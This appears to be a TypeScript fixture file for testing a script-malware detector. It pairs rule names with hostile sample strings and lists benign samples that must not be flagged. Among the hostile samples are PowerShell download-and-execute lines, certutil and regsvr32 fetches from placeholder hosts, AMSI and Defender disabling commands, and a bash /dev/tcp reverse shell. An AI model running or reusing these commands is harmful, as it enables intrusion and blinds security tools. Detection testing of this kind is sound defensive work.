import { type Samples, base64 } from './samples.ts';

const shell = 'new ActiveXObject("WScript.Shell")';
const codes = Array.from({ length: 60 }, (_, n) => `Chr(${65 + (n % 26)})`).join(' & ');

export const scripts: Samples = {
  rules: {
    Wsh_Fetches_And_Runs: [
      `var s = ${shell}; var x = new ActiveXObject("MSXML2.XMLHTTP"); var a = new ActiveXObject("ADODB.Stream");`,
      'Set s = CreateObject("Shell.Application")\r\nSet h = CreateObject("WinHttp.WinHttpRequest.5.1")\r\nx = h.ResponseBody',
    ],
    Wsh_Starts_Interpreter: [
      `${shell}.Run("powershell -nop");`,
      'Set o = CreateObject("WScript.Shell")\r\no.Run "cmd /c start x", 0\r\n',
      '<html><script language="vbscript">Set o = CreateObject("WScript.Shell"): o.Exec "mshta x"</script></html>',
    ],
    Script_Encoded_By_Microsoft: ['#@~^AAAAAA==\x7fxyz^#~@'],
    Script_Built_From_Character_Codes: [`Set o = CreateObject("x")\r\nExecute ${codes}`],
    Hta_Runs_Commands: ['<html><hta:application id="a"><script>x.WScript.Shell</script></html>'],
    Hta: ['<html><head><HTA:APPLICATION ID="a" /></head></html>'],
    Scriptlet: [
      '<?xml version="1.0"?>\n<scriptlet>\n<registration progid="a">\n<script language="JScript">new ActiveXObject("x")</script>',
      '<job id="a"><script language="VBScript">CreateObject("x")</script></job>',
    ],
    Powershell_Encoded_Command: [
      `powershell -nop -w hidden -enc ${base64(80)}`,
      `powershell.exe -EncodedCommand "${base64(80)}"`,
      Buffer.from(`PowerShell -e ${base64(80)}`, 'utf16le'),
    ],
    Powershell_Fetches_And_Runs: [
      'powershell -ep bypass -c "iex (New-Object Net.WebClient).DownloadString(\'http://a.example.test\')"',
      'Invoke-WebRequest http://a.example.test -OutFile a.exe; Start-Process a.exe -WindowStyle hidden',
    ],
    Powershell_Loads_Hidden_Program: [
      '$a=[Convert]::FromBase64String("x");[System.Reflection.Assembly]::Load($a).EntryPoint.Invoke($null,$null)',
    ],
    Powershell_Blinds_The_Scanner: [
      "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed')",
      'Set-MpPreference -DisableRealtimeMonitoring $true',
      'Add-MpPreference -Force -ExclusionPath C:\\',
    ],
    Batch_Fetches_And_Runs: [
      '@echo off\r\ncertutil -urlcache -split -f http://a.example.test/b b\r\n',
      '@ECHO  OFF\r\ncurl -s http://a.example.test -o %TEMP%\\a.exe\r\n',
      '@echo off\r\npowershell -c "Invoke-WebRequest http://a.example.test"\r\n',
    ],
    Living_Off_The_Land: [
      'regsvr32 /s /n /u /i:http://a.example.test/a.sct scrobj.dll',
      'mshta javascript:a()',
      'rundll32.exe javascript:"x"',
      'wmic os get /format:"http://a.example.test/a.xsl"',
      'msiexec /i http://a.example.test/a.msi /quiet',
    ],
    Unix_Reverse_Shell: ['#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n', 'exec 5<>/dev/tcp/192.0.2.7/4444'],
  },
  honest: {
    'a logon script': 'Set n = CreateObject("WScript.Network")\r\nn.MapNetworkDrive "H:", "\\\\files\\home"\r\n',
    'a script that shows a box': 'Set s = CreateObject("WScript.Shell")\r\ns.Popup "Done"\r\n',
    'a batch file': '@echo off\r\nrem backup\r\nxcopy C:\\data D:\\backup /s\r\n',
    'a batch file with msiexec': '@echo off\r\nmsiexec /i setup.msi /quiet\r\n',
    'a PowerShell report': 'Get-Process | Sort-Object CPU | Export-Csv report.csv\r\n',
    'a PowerShell download': 'Invoke-WebRequest https://www.example.test/a.csv -OutFile a.csv\r\n',
    'a shell script': '#!/bin/sh\nset -e\ncurl -fsS https://www.example.test/health >/dev/null\n',
    'an article about attacks':
      '<html><body><p>They run <code>powershell -ep bypass -c "iex (iwr http://a.example.test)"</code> or mshta javascript:x</p></body></html>',
    'a page with some character codes': `<html><script>document.title = String.fromCharCode(65, 66);</script></html>`,
    'a licence text': 'Permission is hereby granted, free of charge, to any person obtaining a copy of this software',
  },
};
